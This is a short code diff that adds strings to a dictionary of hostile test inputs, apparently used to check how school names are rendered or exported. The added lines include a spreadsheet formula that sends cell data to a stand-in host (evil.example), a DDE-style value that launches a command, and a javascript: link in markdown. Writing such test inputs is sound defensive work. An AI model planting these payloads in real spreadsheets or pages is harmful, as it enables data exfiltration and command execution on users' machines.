@@ -65,6 +65,10 @@ HOSTILE = {
     "right to left": "مدرسة البستان الابتدائية",
     "emoji": "École des Chênes 🏫🌳",
     "long": "Saint-Something-or-Other " * 8,
+    "unbroken": "W" * 200,
+    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "table": "| a | b |\\n# x [link](javascript:alert(1)) *b* `c` ~~d~~",
 }
 
 
